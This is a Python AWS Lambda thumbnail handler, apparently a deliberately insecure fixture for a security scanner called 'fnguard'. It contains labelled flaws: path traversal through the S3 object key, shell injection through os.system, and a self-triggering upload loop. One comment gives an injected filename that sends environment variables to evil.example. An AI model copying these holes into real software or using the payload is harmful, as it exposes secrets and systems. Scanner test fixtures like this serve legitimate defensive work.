"""Thumbnails for images uploaded to the orders bucket (S3 ObjectCreated notifications).

DELIBERATELY INSECURE demo code for fnguard: do not copy.
"""

import os
import urllib.parse

import boto3

s3 = boto3.client("s3")
PREFIX = os.environ.get("THUMBNAIL_PREFIX", "thumbnails/")
SIZE = os.environ.get("THUMBNAIL_SIZE", "256x256")


def lambda_handler(event, context):
    for record in event["Records"]:
        bucket = record["s3"]["bucket"]["name"]
        key = urllib.parse.unquote_plus(record["s3"]["object"]["key"])

        # INJ004: the object key becomes a local path: a key such as "../../var/task/handler.py"
        # writes outside /tmp (RUN002).
        local = "/tmp/" + key
        os.makedirs(os.path.dirname(local), exist_ok=True)
        s3.download_file(bucket, key, local)

        # INJ001: the key is pasted into a shell command: an upload named
        # "x.jpg; curl http://evil.example/$(env | base64)" runs that command.
        thumb = "/tmp/thumb-" + os.path.basename(key)
        os.system("convert '%s' -thumbnail %s '%s'" % (local, SIZE, thumb))

        # RUN001: the thumbnail goes back into the bucket that triggered this function, and
        # the notification has no prefix filter: every thumbnail triggers a new invocation.
        with open(thumb, "rb") as body:
            s3.put_object(Bucket=bucket, Key=PREFIX + key, Body=body)
    return {"processed": len(event["Records"])}
